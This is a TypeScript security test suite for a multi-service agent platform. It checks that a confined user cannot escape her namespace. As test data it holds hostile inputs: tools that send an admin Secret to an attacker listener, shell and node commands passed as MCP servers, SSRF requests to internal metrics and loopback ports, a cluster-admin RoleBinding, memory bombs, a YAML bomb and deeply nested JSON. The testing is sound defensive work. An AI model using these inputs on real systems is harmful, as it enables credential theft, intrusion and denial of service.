import { randomBytes, randomUUID } from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { status as GrpcStatus, type ServiceError } from '@grpc/grpc-js';
import { eventually, freePort } from '@kastra/testing';
import { ResourceServiceTestClient, WatchRecorder } from '../../apps/api-gateway/src/grpc/test/resource-service-test-client';
import { AttackerListener } from './attacker-listener';
import { isRunning, residentBytes, startConfinementStack, type ConfinementStack } from './confinement-stack';
import { ESCAPE_SCRIPTS } from './escape-scripts';
import { KastraClient, sseEvents, type RunStatus } from './kastra-client';

/** Assembled at runtime so that no literal in the repository looks like a credential. */
const ADMIN_TOKEN = ['admin', 'only', 'token', randomBytes(8).toString('hex')].join('-');
const NS = 'team-m';
/** What a leaked /metrics page looks like. */
const METRICS_TEXT = /# HELP|# TYPE|process_cpu_seconds|nodejs_heap/;
const MIB = 1024 * 1024;

/**
 * A user confined to her namespace attacks the running services (api-gateway, controller-manager,
 * workflow-executor, llm-proxy from dist/) with every move that once did harm: mallory, bound to
 * `edit` in team-m by `kastra token --user mallory --namespace team-m`, with her own listener on a
 * port the operator opened. Each attack must fail to do harm: no code on the host, no credential
 * she cannot read sent anywhere, no write outside her namespace, no service down, no internal
 * endpoint read, nothing unbounded.
 */
describe('a namespace-bound user is confined', () => {
  let stack: ConfinementStack;
  let listener: AttackerListener;
  let admin: KastraClient;
  let mallory: KastraClient;

  /** Fails with the leaked value's kind (never the value) if `text` carries any secret of the stack. */
  const expectNoSecretIn = (what: string, text: string) => {
    const leaked = [...stack.secretValues(), ADMIN_TOKEN].filter((secret) => text.includes(secret)).map((secret) => `${secret.length}-character secret`);
    expect({ what, leaked, escaped: text.includes('escaped pid=') }).toEqual({ what, leaked: [], escaped: false });
  };
  const proxyChat = (body: unknown) =>
    fetch(`${stack.proxy.url}/v1/chat/completions`, {
      method: 'POST',
      headers: { authorization: `Bearer ${stack.mallory}`, 'content-type': 'application/json' },
      body: typeof body === 'string' ? body : JSON.stringify(body),
    });
  const stepError = (status: RunStatus, step: string) => status.steps?.[step]?.error?.message ?? '';

  beforeAll(async () => {
    listener = await AttackerListener.start();
    // The operator allows one stdio MCP server; nothing else may run.
    stack = await startConfinementStack({ openPorts: [listener.port], env: { KASTRA_MCP_COMMANDS: JSON.stringify({ clock: { command: '/bin/true' } }) } });
    admin = new KastraClient(stack.gateway.url, stack.admin);
    mallory = new KastraClient(stack.gateway.url, stack.mallory);
    // The admin's Secret in mallory's namespace, and her own keyless model
    await Promise.all([
      admin.mustCreate(NS, 'Secret', 'admin-key', { stringData: { token: ADMIN_TOKEN } }),
      mallory.mustCreate(NS, 'LLM', 'mock-llm', { spec: { provider: 'mock', model: 'mock-1' } }),
    ]);
    // The premise of every row: mallory may edit team-m but not read its Secrets
    expect((await mallory.request('GET', KastraClient.path(NS, 'Secret', 'admin-key'))).status).toBe(403);
    await mallory.waitReady(NS, 'LLM', 'mock-llm', 'True');
  }, 120_000);

  afterAll(async () => {
    await stack?.stop();
    await listener?.close();
  });

  it('1. script escapes (outcome getter, prepareStackTrace, constructor climb) in runs and agent calls reveal nothing of the host', async () => {
    // Given a Tool, a Workflow and an Agent of mallory's per escape script
    const names = Object.keys(ESCAPE_SCRIPTS);
    await Promise.all(
      names.flatMap((name) => [
        mallory.mustCreate(NS, 'Tool', `escape-${name}`, { spec: { description: 'escapes', script: { code: ESCAPE_SCRIPTS[name], timeoutMs: 5000 } } }),
        mallory.mustCreate(NS, 'Workflow', `escape-${name}`, { spec: { steps: [{ id: 'escape', tool: `escape-${name}` }] } }),
        mallory.mustCreate(NS, 'Agent', `escape-${name}`, { spec: { instructions: 'Call the tool.', model: { ref: 'mock-llm' }, tools: [{ name: `escape-${name}` }] } }),
      ]),
    );
    await Promise.all(names.map((name) => mallory.waitReady(NS, 'Agent', `escape-${name}`, 'True')));
    // When she runs each through a WorkflowRun (the executor) and an agent call (the gateway)
    const [runs, calls] = await Promise.all([
      Promise.all(names.map((name) => mallory.run(NS, `escape-${name}`))),
      Promise.all(names.map((name) => mallory.generate(NS, `escape-${name}`, 'go'))),
    ]);
    // Then each step failed or returned harmlessly, and nothing of the host came out anywhere
    for (const [i, name] of names.entries()) {
      expect({ name, phase: runs[i].status.phase, call: calls[i].status }).toEqual({ name, phase: expect.stringMatching(/^(Succeeded|Failed)$/), call: 200 });
      expectNoSecretIn(`run of ${name}`, JSON.stringify(runs[i].status) + runs[i].events);
      expectNoSecretIn(`agent call of ${name}`, calls[i].text);
    }
    // And the host never read the outcome slot the getter was planted on
    expect(runs[names.indexOf('outcome-getter')].status.output).toBe('waiting for the host to read __kastraOutcome');
    expect(stepError(runs[names.indexOf('constructor-climb')].status, 'escape')).toContain("'process' is not defined");
    // And neither service's logs carry a secret; both still run
    expectNoSecretIn('executor and gateway logs', stack.executor.logs() + stack.gateway.logs());
    expect([isRunning(stack.executor.pid), isRunning(stack.gateway.pid)]).toEqual([true, true]);
  }, 60_000);

  it('2. an MCP Tool naming its own command (sh -c, node -e) is McpCommandNotAllowed, its runs fail, nothing is executed', async () => {
    // Given Tools whose stdio server is a command of mallory's that would create a file
    const marker = path.join(os.tmpdir(), `kastra-confinement-${randomUUID()}`);
    const commands = {
      'mcp-shell': { command: 'sh', args: ['-c', `touch ${marker}-sh`] },
      'mcp-node': { command: process.execPath, args: ['-e', `require('fs').writeFileSync(${JSON.stringify(`${marker}-node`)}, '')`] },
    };
    await Promise.all(
      Object.entries(commands).flatMap(([name, server]) => [
        mallory.mustCreate(NS, 'Tool', name, { spec: { description: 'runs a command', mcp: { server, tool: 'anything' } } }),
        mallory.mustCreate(NS, 'Workflow', name, { spec: { steps: [{ id: 'run', tool: name }] } }),
        mallory.mustCreate(NS, 'Agent', name, { spec: { instructions: 'Call the tool.', model: { ref: 'mock-llm' }, tools: [{ name }] } }),
      ]),
    );
    for (const name of Object.keys(commands)) {
      // Then each is not Ready, naming the rule
      const condition = await mallory.waitReady(NS, 'Tool', name, 'False', 'McpCommandNotAllowed');
      expect(condition.message).toContain('is not an MCP server the operator allows (KASTRA_MCP_COMMANDS; configured: clock)');
      // When she runs it and calls an agent with it
      const [run, call] = await Promise.all([mallory.run(NS, name), mallory.generate(NS, name, 'go')]);
      // Then the run fails before any process starts, and the agent is refused
      expect(run.status).toMatchObject({ phase: 'Failed', steps: { run: { state: 'Failed', error: { message: expect.stringContaining('is not an MCP server the operator allows') } } } });
      expect(call.status).toBe(409);
    }
    // And no command ran
    expect([fs.existsSync(`${marker}-sh`), fs.existsSync(`${marker}-node`)]).toEqual([false, false]);
  }, 60_000);

  it("3. an http Tool sending the admin's Secret as a header to her listener is SecretForbidden; her run and agent call send nothing", async () => {
    // Given mallory's Tool with the admin's Secret as a header, to her listener
    await Promise.all([
      mallory.mustCreate(NS, 'Tool', 'thief', { spec: { description: 'collects', http: { url: `${listener.url}/thief`, headers: { authorization: { secretRef: { name: 'admin-key', key: 'token' } } } } } }),
      mallory.mustCreate(NS, 'Workflow', 'steal', { spec: { steps: [{ id: 'send', tool: 'thief' }] } }),
      mallory.mustCreate(NS, 'Agent', 'courier', { spec: { instructions: 'Call the tool.', model: { ref: 'mock-llm' }, tools: [{ name: 'thief' }] } }),
    ]);
    // Then the Tool is not Ready, and when she runs it and calls the agent, both are refused
    await mallory.waitReady(NS, 'Tool', 'thief', 'False', 'SecretForbidden');
    await mallory.waitReady(NS, 'Agent', 'courier', 'False');
    const [run, call] = await Promise.all([mallory.run(NS, 'steal'), mallory.generate(NS, 'courier', 'go')]);
    expect(run.status).toMatchObject({ phase: 'Failed', steps: { send: { error: { message: 'tool team-m.thief may not use Secret team-m.admin-key: whoever last wrote the Tool may not read it' } } } });
    expect(call.status).toBe(409);
    // And her listener never saw a request of the Tool, nor the Secret anywhere
    expect(listener.at('/thief')).toEqual([]);
    expectNoSecretIn('the listener', JSON.stringify(listener.received));
  }, 60_000);

  it('4. an LLM at her base URL keyed by ${KASTRA_JWT_SECRET}, ${DATABASE_URL}, ${OPENAI_API_KEY} or the admin Secret is not Ready, every call is 4xx, her listener gets nothing', async () => {
    // Given mallory's LLMs pointing at her listener, each with a credential she cannot read
    const keys: Record<string, { spec: Record<string, unknown>; reason: string }> = {
      'env-jwt': { spec: { apiKey: '${KASTRA_JWT_SECRET}' }, reason: 'EnvReferenceNotAllowed' },
      'env-database': { spec: { apiKey: '${DATABASE_URL}' }, reason: 'EnvReferenceNotAllowed' },
      'env-provider': { spec: { apiKeys: ['${OPENAI_API_KEY}'] }, reason: 'EnvReferenceNotAllowed' },
      'secret-ref': { spec: { secretRef: { name: 'admin-key', key: 'token' } }, reason: 'SecretForbidden' },
    };
    await Promise.all(
      Object.entries(keys).map(([name, { spec }]) =>
        mallory.mustCreate(NS, 'LLM', name, { spec: { provider: 'openai', model: 'gpt-4o', ...spec, options: { baseURL: `${listener.url}/llm-${name}/v1` } } }),
      ),
    );
    for (const [name, { reason }] of Object.entries(keys)) {
      // Then each is not Ready for its reason
      const condition = await mallory.waitReady(NS, 'LLM', name, 'False', reason);
      expectNoSecretIn(`Ready condition of ${name}`, JSON.stringify(condition));
      // And a call through the proxy, as mallory, is refused
      const answer = await proxyChat({ model: `${NS}.${name}`, messages: [{ role: 'user', content: 'hi' }] });
      const text = await answer.text();
      expect({ name, status: answer.status, text }).toEqual({ name, status: 403, text: expect.stringContaining('no_key') });
      expectNoSecretIn(`proxy answer for ${name}`, text);
    }
    // And nothing ever reached her listener for them
    expect(listener.at('/llm-')).toEqual([]);
  }, 60_000);

  it("5. her create, patch, apply, update and delete of an admin's resources in default and team-n are 403, and nothing is written", async () => {
    // Given the admin's key-bearing LLM and its Secret in default and in the neighbour namespace team-n
    const keyed = { provider: 'openai-compatible', model: 'm', secretRef: { name: 'admin-key', key: 'token' }, options: { baseURL: 'https://models.example.com/v1' } };
    for (const ns of ['default', 'team-n']) {
      await admin.mustCreate(ns, 'Secret', 'admin-key', { stringData: { token: ADMIN_TOKEN } });
      await admin.mustCreate(ns, 'LLM', 'keyed', { spec: keyed });
    }
    // (Ready first: the controller's status write is the last write before the attacks)
    await Promise.all(['default', 'team-n'].map((ns) => admin.waitReady(ns, 'LLM', 'keyed', 'True')));
    const before = await Promise.all(['default', 'team-n'].map((ns) => admin.get(ns, 'LLM', 'keyed')));
    const grpc = new ResourceServiceTestClient(stack.grpcAddress, stack.mallory, { ca: fs.readFileSync(path.join(stack.home, 'tls', 'ca.crt'), 'utf8') });
    const grpcCode = (call: Promise<unknown>) => call.then(() => GrpcStatus.OK, (error: ServiceError) => error.code);
    const repointed = (ns: string) => ({ apiVersion: 'mastra.ai/v1', kind: 'LLM', metadata: { name: 'keyed', namespace: ns }, spec: { ...keyed, options: { baseURL: `${listener.url}/repointed/v1` } } });
    try {
      for (const [i, ns] of ['default', 'team-n'].entries()) {
        const llm = KastraClient.path(ns, 'LLM', 'keyed');
        // When mallory re-points the LLM to her listener, every way there is, and deletes and plants objects
        const answers = {
          patch: await mallory.request('PATCH', llm, { spec: { options: { baseURL: `${listener.url}/repointed/v1` } } }),
          dryRunPatch: await mallory.request('PATCH', `${llm}?dryRun=All`, { spec: { options: { baseURL: `${listener.url}/repointed/v1` } } }),
          apply: await mallory.request('PATCH', `${llm}?fieldManager=mallory&force=true`, repointed(ns), 'application/apply-patch+yaml'),
          update: await mallory.request('PUT', llm, { ...repointed(ns), metadata: { ...repointed(ns).metadata, resourceVersion: before[i]!.metadata.resourceVersion } }),
          delete: await mallory.request('DELETE', llm),
          create: await mallory.create(ns, 'LLM', 'planted', { spec: { provider: 'mock', model: 'm' } }),
          readSecret: await mallory.request('GET', KastraClient.path(ns, 'Secret', 'admin-key')),
        };
        // Then each is the apiserver's 403 naming her
        for (const [move, answer] of Object.entries(answers)) {
          expect({ ns, move, status: answer.status, message: JSON.parse(answer.text).message }).toEqual({ ns, move, status: 403, message: expect.stringContaining('is forbidden: User "mallory" cannot') });
        }
        // And so are the same moves over gRPC
        expect({ ns, apply: await grpcCode(grpc.apply(JSON.stringify(repointed(ns)))), delete: await grpcCode(grpc.delete('LLM', 'keyed', { namespace: ns })) }).toEqual({
          ns,
          apply: GrpcStatus.PERMISSION_DENIED,
          delete: GrpcStatus.PERMISSION_DENIED,
        });
      }
      // And she cannot bind herself a role that would let her
      const binding = { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: { name: 'mallory-root', namespace: NS }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: 'mallory' }] };
      expect((await mallory.request('POST', `/apis/rbac.authorization.k8s.io/v1/namespaces/${NS}/rolebindings`, binding)).status).toBe(403);
    } finally {
      grpc.close();
    }
    // And nothing was written: the LLMs are as they were (same resourceVersion and spec), nothing planted, no binding
    const after = await Promise.all(['default', 'team-n'].map((ns) => admin.get(ns, 'LLM', 'keyed')));
    expect(after.map((llm) => [llm?.metadata.resourceVersion, llm?.spec])).toEqual(before.map((llm) => [llm?.metadata.resourceVersion, llm?.spec]));
    expect(await Promise.all(['default', 'team-n'].map((ns) => admin.get(ns, 'LLM', 'planted')))).toEqual([undefined, undefined]);
    expect((await admin.request('GET', `/apis/rbac.authorization.k8s.io/v1/namespaces/${NS}/rolebindings/mallory-root`)).status).toBe(404);
    expect(listener.at('/repointed')).toEqual([]);
  }, 60_000);

  it('6. memory bombs run 3 times each beside ordinary runs: the bombs fail, the ordinary runs succeed, the executor never restarts', async () => {
    // Given scripts that allocate a 100 MB string, a 1 GiB ArrayBuffer, and 1 MiB buffers until stopped, and an ordinary one
    const scripts: Record<string, string> = {
      'bomb-string': "return 'x'.repeat(100*1024*1024)",
      'bomb-buffer': 'const buffer = new ArrayBuffer(1<<30); new Uint8Array(buffer).fill(1); return buffer.byteLength',
      'bomb-hoard': 'const kept = []; for (;;) kept.push(new Uint8Array(1 << 20).fill(1));',
      ordinary: 'return { doubled: input.n * 2 }',
    };
    await Promise.all(
      Object.entries(scripts).flatMap(([name, code]) => [
        mallory.mustCreate(NS, 'Tool', name, { spec: { description: name, script: { code, timeoutMs: 10_000 } } }),
        mallory.mustCreate(NS, 'Workflow', name, { spec: { steps: [{ id: 'compute', tool: name }] } }),
      ]),
    );
    const executorPid = stack.executor.pid;
    // When 3 runs of each bomb and 10 ordinary runs start at once
    const bombs = await Promise.all(['bomb-string', 'bomb-buffer', 'bomb-hoard'].flatMap((name) => [1, 2, 3].map(() => mallory.startRun(NS, name))));
    const ordinary = await Promise.all(Array.from({ length: 10 }, (_, n) => mallory.startRun(NS, 'ordinary', { n })));
    const [bombEnds, ordinaryEnds] = await Promise.all([Promise.all(bombs.map((name) => mallory.runEnd(NS, name))), Promise.all(ordinary.map((name) => mallory.runEnd(NS, name)))]);
    // Then every bomb failed its own step at the sandbox's memory limit
    for (const [i, status] of bombEnds.entries()) {
      expect({ run: bombs[i], phase: status.phase, error: stepError(status, 'compute') }).toEqual({ run: bombs[i], phase: 'Failed', error: expect.stringContaining('memory limit') });
    }
    // And every ordinary run succeeded
    expect(ordinaryEnds.map((status) => [status.phase, status.output])).toEqual(Array.from({ length: 10 }, (_, n) => ['Succeeded', { doubled: n * 2 }]));
    // And each bomb's step started once, on the executor that is still the one started (never aborted, never redelivered)
    for (const name of bombs) {
      const starts = sseEvents(await mallory.runEvents(NS, name), 'StepStarted');
      expect({ name, replicas: starts.map((start) => String(start.data.replica).split('-')[0]) }).toEqual({ name, replicas: [String(executorPid)] });
    }
    expect(isRunning(executorPid)).toBe(true);
    expect((await fetch(`${stack.executor.url}/healthz`)).status).toBe(200);
  }, 60_000);

  it('7. http Tools, http-fetch and redirects to the services\' own /metrics are refused by the egress policy; Tool readiness is no port scanner', async () => {
    // Given the executor's and the gateway's metrics, and a redirect to the executor's from her opened listener
    const executorMetrics = `${stack.executor.url}/metrics`;
    const gatewayMetrics = `${stack.gateway.url}/metrics`;
    listener.redirectTo = executorMetrics;
    const closedPort = await freePort();
    const httpTools: Record<string, string> = { 'ssrf-executor': executorMetrics, 'ssrf-gateway': gatewayMetrics, 'ssrf-redirect': `${listener.url}/redirect/tool` };
    const fetches: Record<string, string> = { 'fetch-executor': executorMetrics, 'fetch-gateway': gatewayMetrics, 'fetch-redirect': `${listener.url}/redirect/fetch` };
    const probes: Record<string, string> = { 'probe-postgres': 'http://127.0.0.1:5432/', 'probe-closed': `http://127.0.0.1:${closedPort}/` };
    // (the fetcher's schema makes the mock model pass the prompt as its url)
    const urlSchema = { type: 'object', required: ['url'], properties: { url: { type: 'string' } } };
    await Promise.all([
      ...Object.entries(httpTools).flatMap(([name, url]) => [
        mallory.mustCreate(NS, 'Tool', name, { spec: { description: 'reads', http: { url, method: 'GET' } } }),
        mallory.mustCreate(NS, 'Workflow', name, { spec: { steps: [{ id: 'read', tool: name }] } }),
      ]),
      ...Object.entries(probes).map(([name, url]) => mallory.mustCreate(NS, 'Tool', name, { spec: { description: 'probes', http: { url } } })),
      mallory.mustCreate(NS, 'Tool', 'fetcher', { spec: { description: 'fetches', builtin: 'http-fetch', inputSchema: urlSchema } }),
      ...Object.entries(fetches).map(([name, url]) => mallory.mustCreate(NS, 'Workflow', name, { spec: { steps: [{ id: 'read', tool: 'fetcher', input: { url } }] } })),
      mallory.mustCreate(NS, 'Agent', 'fetch-agent', { spec: { instructions: 'Fetch the URL.', model: { ref: 'mock-llm' }, tools: [{ name: 'fetcher' }] } }),
    ]);
    await mallory.waitReady(NS, 'Agent', 'fetch-agent', 'True');
    // When she runs each, and asks the agent (the gateway runs its tools) to fetch them
    const workflows = [...Object.keys(httpTools), ...Object.keys(fetches)];
    const [runs, calls] = await Promise.all([
      Promise.all(workflows.map((name) => mallory.run(NS, name))),
      Promise.all([executorMetrics, gatewayMetrics, `${listener.url}/redirect/agent`].map((url) => mallory.generate(NS, 'fetch-agent', url))),
    ]);
    // Then every run failed, refused by the egress policy, and no metrics text came back
    for (const [i, name] of workflows.entries()) {
      expect({ name, phase: runs[i].status.phase, error: stepError(runs[i].status, 'read') }).toEqual({ name, phase: 'Failed', error: expect.stringContaining('refused by egress policy') });
      expect(JSON.stringify(runs[i].status) + runs[i].events).not.toMatch(METRICS_TEXT);
    }
    for (const call of calls) {
      expect(call.status).toBe(200);
      expect(call.text).toContain('refused by egress policy');
      expect(call.text).not.toMatch(METRICS_TEXT);
    }
    // And the redirects were asked for (so refused at the hop, not before)
    expect(listener.at('/redirect').length).toBeGreaterThanOrEqual(3);
    // And readiness says the same of an open port (Postgres) and a closed one: refused, never probed
    const open = await mallory.waitReady(NS, 'Tool', 'probe-postgres', 'False', 'EgressRefused');
    const closed = await mallory.waitReady(NS, 'Tool', 'probe-closed', 'False', 'EgressRefused');
    expect(open.message).toContain('http://127.0.0.1:5432/ (spec.http.url) is refused by egress policy: 127.0.0.1 is a loopback address');
    expect(closed.message.replace(String(closedPort), '5432')).toBe(open.message);
    await mallory.waitReady(NS, 'Tool', 'ssrf-executor', 'False', 'EgressRefused');
  }, 60_000);

  it('8. a 300 MB answer fails the step once at the response cap (response_too_large), the executor\'s memory stays flat', async () => {
    // Given an http Tool reading 300 MB from her opened listener, in a step she let retry
    await Promise.all([
      mallory.mustCreate(NS, 'Tool', 'huge', { spec: { description: 'downloads', http: { url: `${listener.url}/huge`, method: 'GET' } } }),
      mallory.mustCreate(NS, 'Workflow', 'huge', { spec: { steps: [{ id: 'download', tool: 'huge', retry: { maxAttempts: 5, initialIntervalMs: 100 } }] } }),
    ]);
    const rssBefore = residentBytes(stack.executor.pid);
    // When she runs it
    const run = await mallory.run(NS, 'huge');
    // Then the step failed at the 5 MiB cap, with no body quoted
    expect(run.status.phase).toBe('Failed');
    expect(stepError(run.status, 'download')).toContain('answered more than 5242880 bytes (KASTRA_TOOL_MAX_RESPONSE_BYTES); the read was stopped');
    expect(JSON.stringify(run.status)).not.toContain('xxxxxxxx');
    // And the body was fetched once, cut off long before 300 MB, and the executor's memory did not follow it
    await new Promise((resolve) => setTimeout(resolve, 1500));
    expect(listener.at('/huge')).toHaveLength(1);
    expect(listener.hugeBytesSent).toBeLessThan(64 * MIB);
    expect(residentBytes(stack.executor.pid) - rssBefore).toBeLessThan(100 * MIB);
  }, 60_000);

  it("9. her workflow's agent steps are limited and billed as her: with RPM 1 the second model call is refused, nothing is billed to the executor", async () => {
    // Given a model, an agent and a workflow of two agent steps of mallory's
    await mallory.mustCreate(NS, 'LLM', 'metered', { spec: { provider: 'mock', model: 'mock-1' } });
    await mallory.mustCreate(NS, 'Agent', 'chatter', { spec: { instructions: 'Answer.', model: { ref: 'metered' } } });
    await mallory.mustCreate(NS, 'Workflow', 'two-calls', { spec: { steps: [{ id: 'first', agent: 'chatter', input: { type: 'user-input' } }, { id: 'second', agent: 'chatter' }] } });
    await mallory.waitReady(NS, 'Workflow', 'two-calls', 'True');
    // and the admin limits her to 1 request a minute through the llm-proxy's admin API
    const proxyAdmin = (method: string, pathname: string, body?: unknown) =>
      fetch(`${stack.proxy.url}${pathname}`, { method, headers: { authorization: `Bearer ${stack.admin}`, 'content-type': 'application/json' }, ...(body ? { body: JSON.stringify(body) } : {}) });
    expect((await proxyAdmin('PUT', '/api/v1/llm/user-limits/mallory', { rpm_limit: 1, tpm_limit: 1_000_000 })).status).toBe(200);
    try {
      // When she runs it
      const run = await mallory.run(NS, 'two-calls', 'hello');
      // Then the first call was her one request of the minute and the second was refused for her
      expect(run.status).toMatchObject({ phase: 'Failed', steps: { first: { state: 'Succeeded' }, second: { state: 'Failed' } } });
      expect(stepError(run.status, 'second')).toMatch(/rate|limit|429/i);
      // And her usage, as she reads it, shows both calls of that model under her
      type UsageRow = { user: string; model: string; requests: number; rateLimited: number };
      const usage = async (token: string, query = '') => ((await (await fetch(`${stack.proxy.url}/api/v1/llm/usage${query}`, { headers: { authorization: `Bearer ${token}` } })).json()) as { usage: UsageRow[] }).usage;
      const metered = await eventually(async () => {
        const rows = (await usage(stack.mallory)).filter((row) => row.model.includes('metered'));
        const total = { users: [...new Set(rows.map((row) => row.user))], requests: rows.reduce((sum, row) => sum + row.requests, 0), rateLimited: rows.reduce((sum, row) => sum + row.rateLimited, 0) };
        return total.rateLimited === 1 ? total : undefined;
      }, 15_000, 200);
      expect(metered).toEqual({ users: ['mallory'], requests: 2, rateLimited: 1 });
      // And nothing is billed to the executor's service identity (the admin's view, which does show hers)
      expect((await usage(stack.admin, '?user=mallory')).some((row) => row.model.includes('metered'))).toBe(true);
      expect(await usage(stack.admin, '?user=system:workflow-executor')).toEqual([]);
    } finally {
      await proxyAdmin('DELETE', '/api/v1/llm/user-limits/mallory');
    }
  }, 60_000);

  it('10. 1,000 chat calls with made-up mock/<random> model names leave the proxy\'s /metrics the same size, without those names', async () => {
    // Given the proxy's metrics after one made-up name (its "other" series exists)
    const metrics = async () => (await fetch(`${stack.proxy.url}/metrics`)).text();
    const chat = (model: string) => proxyChat({ model, messages: [{ role: 'user', content: 'hi' }] }).then(async (answer) => (await answer.arrayBuffer(), answer.status));
    expect(await chat(`mock/${randomBytes(6).toString('hex')}`)).toBe(200);
    const sizeBefore = (await metrics()).length;
    // When mallory calls 1,000 more, 25 at a time
    const names = Array.from({ length: 1000 }, () => `mock/${randomBytes(6).toString('hex')}`);
    for (let i = 0; i < names.length; i += 25) {
      expect(new Set(await Promise.all(names.slice(i, i + 25).map(chat)))).toEqual(new Set([200]));
    }
    // Then /metrics grew by a few digits at most, and names none of them
    const after = await metrics();
    expect(after.length - sizeBefore).toBeLessThan(4096);
    expect(names.filter((name) => after.includes(name.slice('mock/'.length)))).toEqual([]);
  }, 60_000);

  it('11. deep JSON, a YAML bomb, deep tool parameters and an impossible watch position are 4xx / INVALID_ARGUMENT, never 500, and every service stays up', async () => {
    const deep = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
    const deepTool = `{"apiVersion":"mastra.ai/v1","kind":"Tool","metadata":{"name":"deep","namespace":"${NS}"},"spec":{"script":{"code":"return 1"},"inputSchema":${deep(2000)}}}`;
    const laughs = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]', ...'bcdefghi'.split('').map((name, i) => `${name}: &${name} [${Array(9).fill(`*${'abcdefghi'[i]}`).join(',')}]`)];
    const yamlBomb = `apiVersion: mastra.ai/v1\nkind: Tool\nmetadata: {name: bomb, namespace: ${NS}}\n${laughs.join('\n')}\nspec: {script: {code: "return 1"}, description: *i}\n`;
    const deepYaml = `apiVersion: mastra.ai/v1\nkind: Tool\nmetadata: {name: deep-yaml, namespace: ${NS}}\nspec: {script: {code: "return 1"}, inputSchema: ${'['.repeat(2000)}${']'.repeat(2000)}}\n`;
    const deepParameters = `{"model":"${NS}.mock-llm","messages":[{"role":"user","content":"hi"}],"tools":[{"type":"function","function":{"name":"deep","parameters":${deep(2000)}}}]}`;
    // Given an Agent and a Workflow of hers that would take well-formed bodies
    await Promise.all([
      mallory.mustCreate(NS, 'Agent', 'plain', { spec: { instructions: 'Answer.', model: { ref: 'mock-llm' } } }),
      mallory.mustCreate(NS, 'Workflow', 'plain', { spec: { steps: [{ id: 'answer', agent: 'plain' }] } }),
    ]);
    await mallory.waitReady(NS, 'Agent', 'plain', 'True');
    // When mallory sends them over REST, gRPC and the proxy
    const rest = {
      create: await mallory.request('POST', KastraClient.path(NS, 'Tool'), deepTool),
      patch: await mallory.request('PATCH', KastraClient.path(NS, 'LLM', 'mock-llm'), `{"spec":{"options":${deep(2000)}}}`),
      generate: await mallory.request('POST', `${KastraClient.path(NS, 'Agent', 'plain')}/generate`, `{"prompt":"go","output":{"schema":${deep(2000)}}}`),
      execute: await mallory.request('POST', `${KastraClient.path(NS, 'Workflow', 'plain')}/execute`, deep(2000)),
      watch: await mallory.request('GET', `${KastraClient.path(NS, 'Tool')}?watch=true&resourceVersion=99999999999999999999999`),
      proxyChat: await proxyChat(deepParameters).then(async (answer) => ({ status: answer.status, text: await answer.text() })),
    };
    const grpc = new ResourceServiceTestClient(stack.grpcAddress, stack.mallory, { ca: fs.readFileSync(path.join(stack.home, 'tls', 'ca.crt'), 'utf8') });
    const grpcCode = (call: Promise<unknown>) => call.then(() => GrpcStatus.OK, (error: ServiceError) => error.code);
    const watch = new WatchRecorder(grpc.watch({ kind: 'Tool', namespace: NS, resource_version: '99999999999999999999999' }));
    const grpcCodes = { yamlBomb: await grpcCode(grpc.apply(yamlBomb)), deepYaml: await grpcCode(grpc.apply(deepYaml)), watch: await eventually(async () => watch.error?.code, 10_000, 50) };
    grpc.close();
    // Then each is refused as the client's fault
    for (const [what, answer] of Object.entries(rest)) {
      const why = what === 'watch' ? 'invalid resource version' : 'more than 100 levels deep';
      expect({ what, status: answer.status, text: answer.text }).toEqual({ what, status: 400, text: expect.stringContaining(why) });
    }
    expect(grpcCodes).toEqual({ yamlBomb: GrpcStatus.INVALID_ARGUMENT, deepYaml: GrpcStatus.INVALID_ARGUMENT, watch: GrpcStatus.INVALID_ARGUMENT });
    expect(watch.error?.details).toContain('invalid resource version');
    // And nothing was stored, and every service is still the process it was, and healthy
    expect(await Promise.all(['deep', 'bomb', 'deep-yaml'].map((name) => admin.get(NS, 'Tool', name)))).toEqual([undefined, undefined, undefined]);
    for (const service of [stack.gateway, stack.controller, stack.executor, stack.proxy]) {
      expect({ pid: service.pid, running: isRunning(service.pid), health: (await fetch(`${service.url}/healthz`)).status }).toEqual({ pid: service.pid, running: true, health: 200 });
    }
  }, 60_000);
});
